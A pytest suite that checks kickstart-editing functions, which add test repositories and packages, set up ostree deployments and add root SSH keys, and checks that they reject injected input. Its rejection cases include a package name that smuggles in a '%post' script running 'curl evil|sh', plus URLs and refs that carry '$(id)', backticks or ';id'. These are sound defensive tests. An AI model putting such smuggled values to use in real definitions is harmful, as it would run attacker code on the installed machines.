"""An edit changes the lines it means and no others; what could change more is refused before it is written."""

from __future__ import annotations

import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from distgate.errors import ConfigurationError, DistgateError, PackageError
from distgate.kickstart.definition import read_text
from distgate.kickstart.edit import with_ostree, with_packages_under_test, with_root_key
from distgate.process import run
from distgate.rpm.nevra import Nevra

URL = "http://10.0.2.2:8080/repo/"
REPO = f"repo --name=distgate-under-test --baseurl={URL} --cost=1\n"
BASH = Nevra("bash", 0, "5.3", "2.fc44", "x86_64", "bash-5.3-2.fc44.src.rpm")
TAR = Nevra("tar", 2, "1.35", "1.fc44", "x86_64", "tar-1.35-1.fc44.src.rpm")
HEREDOC = "%post\ncat > /x <<EOF\nrepo --name=not\n @core %packages\n%packagesque\n-bash\nEOF\n%end\n"

Names = tuple[str | Nevra, ...]

EDITS: tuple[tuple[str, str, Names, str], ...] = (
    (
        "the repository goes above the first section, the package to the end of %packages",
        "text\n%packages\n@core\n%end\n",
        ("bash",),
        f"text\n{REPO}%packages\n@core\nbash\n%end\n",
    ),
    (
        "or below the other repositories",
        "url --url=http://h/\nrepo --name=a --baseurl=http://h/a # why\ntext\n%packages\n%end\n",
        ("bash",),
        f"url --url=http://h/\nrepo --name=a --baseurl=http://h/a # why\n{REPO}text\n%packages\nbash\n%end\n",
    ),
    (
        "even when the last of them ends the text without a newline",
        "%packages\n%end\nrepo --name=a --baseurl=http://h/a",
        ("bash",),
        f"%packages\nbash\n%end\nrepo --name=a --baseurl=http://h/a\n{REPO}",
    ),
    (
        "packages keep the order in which they are named, each once",
        "%packages\n%end\n",
        ("vim", "bash", "vim"),
        f"{REPO}%packages\nvim\nbash\n%end\n",
    ),
    (
        "one that is listed already is not listed twice",
        "%packages\n  bash # the shell\n%end\n",
        ("bash", "vim"),
        f"{REPO}%packages\n  bash # the shell\nvim\n%end\n",
    ),
    (
        "an exclusion of it goes, others stay",
        "%packages\n-bash # big\n-bash-doc\n -vim\n%end\n",
        ("bash", "vim"),
        f"{REPO}%packages\n-bash-doc\nbash\nvim\n%end\n",
    ),
    (
        "a very build is asked for by name, version, release and architecture",
        "%packages\n@core\n%end\n",
        (BASH,),
        f"{REPO}%packages\n@core\nbash-5.3-2.fc44.x86_64\n%end\n",
    ),
    (
        "with its epoch when it has one",
        "%packages\n%end\n",
        (TAR,),
        f"{REPO}%packages\ntar-2:1.35-1.fc44.x86_64\n%end\n",
    ),
    (
        "and takes the place of every line with its plain name",
        "%packages\nbash\nbash.x86_64\n-bash\n-bash.x86_64\nbash-doc\n%end\n",
        (BASH,),
        f"{REPO}%packages\nbash-doc\nbash-5.3-2.fc44.x86_64\n%end\n",
    ),
    (
        "names of all shapes",
        "%packages\n%end\n",
        ("libstdc++", "python3.13", "0xFFFF", "gtk+", "perl-Foo_Bar"),
        f"{REPO}%packages\nlibstdc++\npython3.13\n0xFFFF\ngtk+\nperl-Foo_Bar\n%end\n",
    ),
    (
        "scripts are left alone, whatever they look like",
        f"{HEREDOC}%packages\n-bash\n%end\n{HEREDOC}",
        ("bash",),
        f"{REPO}{HEREDOC}%packages\nbash\n%end\n{HEREDOC}",
    ),
    (
        "lines end as the definition's do",
        "text\r\n%packages\r\n@core\r\n%end\r\n",
        ("bash",),
        f"text\r\n{REPO[:-1]}\r\n%packages\r\n@core\r\nbash\r\n%end\r\n",
    ),
    (
        "everything else is kept byte for byte",
        "#!ks\n\n\ttext   # odd\n\n%packages  --exclude-weakdeps \n\n# none\n\t@core\n\n  %end  # of it\n\n\n# last",
        ("bash",),
        "#!ks\n\n\ttext   # odd\n\n"
        f"{REPO}%packages  --exclude-weakdeps \n\n# none\n\t@core\n\nbash\n  %end  # of it\n\n\n# last",
    ),
    (
        "add-ons and certificates too",
        "%addon x\nbash\n%end\n%packages\n%end\n%certificate --filename=a.pem --dir=/x\nAAAA\n%end\n",
        ("bash",),
        f"{REPO}%addon x\nbash\n%end\n%packages\nbash\n%end\n%certificate --filename=a.pem --dir=/x\nAAAA\n%end\n",
    ),
)


def refused_by_ksvalidator(texts: list[str], into: Path) -> str:
    """What the program ksvalidator says against the texts."""
    files = []
    for number, text in enumerate(texts):
        files.append(into / f"{number}.ks")
        files[-1].write_bytes(text.encode())
    said = run([Path(sys.executable).parent / "ksvalidator", *files], timeout=60, allowed=range(256))
    assert said.output.count("Checking kickstart file") == len(texts)
    return "".join(line for line in said.output.splitlines() if line and not line.startswith("Checking"))


@pytest.mark.parametrize(("before", "names", "after"), [case[1:] for case in EDITS], ids=[case[0] for case in EDITS])
def test_packages_under_test_are_added(before: str, names: Names, after: str) -> None:
    edited = with_packages_under_test(before, URL, names)
    assert edited == after


def test_the_cost_is_what_was_said() -> None:
    edited = with_packages_under_test("%packages\n%end\n", "file:///srv/repo", ["bash"], cost=7)
    (source,) = read_text(edited).sources
    assert (source.baseurl, source.cost) == ("file:///srv/repo", 7)


OSTREE = (
    "ostreesetup --nogpg --osname=fedora-atomic --remote=ci --url=http://h/o --ref=fedora/f44/x86_64/atomic-host\n"
)
REMOTE = (
    "\n%post --erroronfail\nset -eu\nostree remote delete --if-exists ci\n"
    "ostree remote add --set=gpg-verify=false ci http://h/o\n%end\n"
)

TREES: tuple[tuple[str, str, str], ...] = (
    (
        "the line is replaced where it is",
        "text\nostreesetup --osname=a --url=http://x/ --ref=b # old\npoweroff\n",
        f"text\n{OSTREE}poweroff\n{REMOTE}",
    ),
    (
        "of two lines the last counts",
        "ostreesetup --osname=a --url=http://x/ --ref=b\ntext\nostreesetup --osname=c --url=http://x/ --ref=d\n",
        f"text\n{OSTREE}{REMOTE}",
    ),
    ("it is added where there is none", "text\n%post\ntrue\n%end\n", f"text\n{OSTREE}%post\ntrue\n%end\n{REMOTE}"),
    ("also to a text without a last newline", "text", f"text\n{OSTREE}{REMOTE}"),
    (
        "packages go, as they come with the tree",
        "text\n%packages\n@core\n%end\n# end\n",
        f"text\n{OSTREE}# end\n{REMOTE}",
    ),
    (
        "scripts are left alone",
        "text\n%post\ncat <<EOF\nostreesetup --osname=x\nEOF\n%end",
        f"text\n{OSTREE}%post\ncat <<EOF\nostreesetup --osname=x\nEOF\n%end\n{REMOTE}",
    ),
    (
        "empty scripts do no harm, whose blank lines pykickstart gives to the next",
        "text\n%post\n\n%end\n",
        f"text\n{OSTREE}%post\n\n%end\n{REMOTE}",
    ),
    (
        "lines end as the definition's do",
        "text\r\n",
        f"text\r\n{OSTREE}{REMOTE}".replace("\r\n", "\n").replace("\n", "\r\n"),
    ),
)


@pytest.mark.parametrize(("before", "after"), [case[1:] for case in TREES], ids=[case[0] for case in TREES])
def test_a_tree_is_deployed(before: str, after: str) -> None:
    edited = with_ostree(before, "http://h/o", "ci", "fedora-atomic", "fedora/f44/x86_64/atomic-host")
    assert edited == after


def test_ksvalidator_accepts_every_edit(tmp_path: Path) -> None:
    texts = [*(case[-1] for case in EDITS), *(case[-1] for case in TREES)]
    assert refused_by_ksvalidator(texts, tmp_path) == ""


KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ0 ci@example"


def test_a_key_is_added_once() -> None:
    text = "rootpw --lock\n%packages\n%end\n"
    edited = with_root_key(text, f"{KEY}\n")
    assert edited == f'rootpw --lock\nsshkey --username=root "{KEY}"\n%packages\n%end\n'
    assert with_root_key(edited, KEY) == edited


GOOD = "text\n%packages\n@core\n%end\n"
BAD_WORDS = (
    ("a newline", "bash\n%end"),
    ("a newline of another kind", "bash\u2028vim"),
    ("a carriage return", "bash\rvim"),
    ("a newline at the end", "bash\n"),
    ("a script", "bash\n%end\n%post\ncurl evil|sh\n%end\n%packages"),
    ("%post", "%post"),
    ("%end", "%end"),
    ("a double quote", 'ba"sh'),
    ("a single quote", "ba'sh"),
    ("a backslash", "ba\\sh"),
    ("a leading dash", "-bash"),
    ("a space", "bash vim"),
    ("a tab", "bash\tvim"),
    ("a group", "@core"),
    ("an environment", "@^everything"),
    ("a glob", "bash*"),
    ("a question mark", "bas?"),
    ("a set", "bas[h]"),
    ("a comment", "bash#"),
    ("a path", "/bin/bash"),
    ("a relation", "bash>=5"),
    ("a macro", "bash%{x}"),
    ("a letter of another script", "b\u0430sh"),
    ("a digit of another script", "bash\u0663"),
    ("a null byte", "bash\x00"),
    ("nothing", ""),
    ("a blank", " "),
)


@pytest.mark.parametrize("name", [case[1] for case in BAD_WORDS], ids=[case[0] for case in BAD_WORDS])
def test_a_name_that_no_package_can_have_is_the_packages_fault(name: str) -> None:
    with pytest.raises(PackageError) as refused:
        with_packages_under_test(GOOD, URL, ["vim", name])
    assert "is no package name that a kickstart can hold (nothing was written)" in str(refused.value)


BAD_BUILDS: tuple[tuple[str, Nevra], ...] = (
    ("is no package name", Nevra("ba\nsh", 0, "1", "1", "x86_64")),
    ("is no version", Nevra("bash", 0, "1 2", "1", "x86_64")),
    ("is no version", Nevra("bash", 0, "1-2", "1", "x86_64")),
    ("is no release", Nevra("bash", 0, "1", "1\n%post", "x86_64")),
    ("is no architecture", Nevra("bash", 0, "1", "1", "*")),
)


@pytest.mark.parametrize(("words", "name"), BAD_BUILDS, ids=[repr(str(case[1])) for case in BAD_BUILDS])
def test_a_build_is_checked_field_by_field(words: str, name: Nevra) -> None:
    with pytest.raises(PackageError, match=words):
        with_packages_under_test(GOOD, URL, [name])


BAD_URLS = (
    "http://h/\n%post",
    "http://h/ --noverifyssl",
    'http://h/"x',
    "http://h/'x",
    "http://h/\\x",
    "http://h/#x",
    "http://h/$(id)",
    "http://h/`id`",
    "http://h/;id",
    "http://h/$releasever",
    "http://user:password@h/",
    "ftp://h/x",
    "-http://h/",
    "h/x",
    "/srv/repo",
    "file:relative",
    "http://",
    "http:///x",
    "http://h/\u2028x",
    "",
)


@pytest.mark.parametrize("url", BAD_URLS, ids=repr)
@pytest.mark.parametrize("edit", ["packages", "tree"])
def test_an_address_that_could_say_more_is_refused(url: str, edit: str) -> None:
    with pytest.raises(ConfigurationError, match="is no URL that a kickstart can hold"):
        _edited_with(url, edit)


def _edited_with(url: str, edit: str) -> str:
    if edit == "packages":
        return with_packages_under_test(GOOD, url, ["bash"])
    return with_ostree("text\n", url, "ci", "fedora-atomic", "fedora/f44/x86_64/atomic-host")


@pytest.mark.parametrize(
    "url", ["https://h", "http://127.0.0.1:80/a?b=c&d=%20", "http://[::1]:8/x", "file:///a/b~c+d/"]
)
@pytest.mark.parametrize("edit", ["packages", "tree"])
def test_an_honest_address_is_taken(url: str, edit: str) -> None:
    assert url in _edited_with(url, edit)


BAD_REFS = ("a b", "a\nb", "/a", "a/", "a//b", "-a", "a/-b", "../a", "a/..", "a'b", 'a"b', "a;b", "$(id)", "a\\b", "")


@pytest.mark.parametrize("ref", BAD_REFS, ids=repr)
def test_a_ref_that_ostree_would_not_take_is_refused(ref: str) -> None:
    with pytest.raises(ConfigurationError, match="is no ref that a kickstart can hold"):
        with_ostree("text\n", "http://h/o", "ci", "fedora-atomic", ref)


BAD_PLAIN = ("a b", "a\nb", "-a", "a/b", "a'b", 'a"b', "a;b", "$(id)", "a\\b", "%end", ".", "")


@pytest.mark.parametrize("name", BAD_PLAIN, ids=repr)
def test_names_of_remotes_and_systems_are_plain_words(name: str) -> None:
    with pytest.raises(ConfigurationError, match="is no name of a remote"):
        with_ostree("text\n", "http://h/o", name, "fedora-atomic", "a/b")
    with pytest.raises(ConfigurationError, match="is no name of an operating system"):
        with_ostree("text\n", "http://h/o", "ci", name, "a/b")


BAD_KEYS = ("AAAA", 'ssh-rsa AAAA a"b', "ssh-rsa AAAA a\n%post", "ssh-rsa AAAA two words", "ssh-rsa", "")


@pytest.mark.parametrize("key", BAD_KEYS, ids=repr)
def test_a_key_is_a_public_ssh_key(key: str) -> None:
    with pytest.raises(ConfigurationError, match="is no public ssh key"):
        with_root_key(GOOD, key)


BAD_DEFINITIONS = (
    ("no %packages", "text\n", "the kickstart has no %packages section"),
    (
        "two of them",
        "%packages\n%end\n\n%packages --nocore\n%end\n",
        "the kickstart has 2 %packages sections, in lines 1 and 4",
    ),
    ("an unknown command", "bogus\n%packages\n%end\n", "line 1: Unknown command: bogus"),
    ("an unknown section", "%bogus\n%end\n%packages\n%end\n", "line 1: Unknown kickstart section: %bogus"),
    ("an open section", "%packages\nbash\n", "%packages does not end with %end"),
    ("a deprecated option", "%packages --instLangs=en\n%end\n", "instLangs"),
    ("an include that is left", "%include a.ks\n%packages\n%end\n", "line 1: %include is left over"),
    ("one within %packages", "%packages\n%include http://h/a.ks\n%end\n", "line 2: %include is left over"),
    ("one in disguise", '%"include" a.ks\n%packages\n%end\n', "line 1: %include is left over"),
    ("%ksappend", "%packages\n%end\n%ksappend http://h/a.ks\n", "line 3: %ksappend fetches text"),
    (
        "%packages in a script, which ends the script for pykickstart",
        "%post\ncat <<EOF\n%packages\n%end\nEOF\n%end\n%packages\n%end\n",
        "%post does not end with %end",
    ),
    (
        "%end in a script, which ends the script",
        "%post\ncat <<EOF\n%end\nEOF\n%end\n%packages\n%end\n",
        "Unknown command: EOF",
    ),
    (
        "a glob that excludes what is under test",
        "text\n%packages\n-bas*\n%end\n",
        "line 3 of the kickstart excludes bas*, and so bash, which is under test",
    ),
    (
        "one that was edited already",
        f"{REPO}%packages\n%end\n",
        "the kickstart has a repository distgate-under-test already",
    ),
)


@pytest.mark.parametrize(
    ("text", "words"), [case[1:] for case in BAD_DEFINITIONS], ids=[case[0] for case in BAD_DEFINITIONS]
)
def test_a_definition_that_cannot_be_edited_is_refused(text: str, words: str) -> None:
    with pytest.raises(ConfigurationError) as refused:
        with_packages_under_test(text, URL, ["bash"])
    assert words in str(refused.value)


BAD_CALLS: tuple[tuple[str, Callable[[], str], str], ...] = (
    ("no package", lambda: with_packages_under_test(GOOD, URL, []), "no package was named"),
    ("no cost", lambda: with_packages_under_test(GOOD, URL, ["bash"], cost=0), "a positive number, not 0"),
    (
        "a tree beside a container",
        lambda: with_ostree("ostreecontainer --url=quay.io/x\n", "http://h/", "ci", "a", "b"),
        "ostreecontainer",
    ),
)


@pytest.mark.parametrize(("call", "words"), [case[1:] for case in BAD_CALLS], ids=[case[0] for case in BAD_CALLS])
def test_a_call_that_makes_no_sense_is_refused(call: Callable[[], str], words: str) -> None:
    with pytest.raises(DistgateError) as refused:
        call()
    assert refused.value.blame == "configuration"
    assert words in str(refused.value)
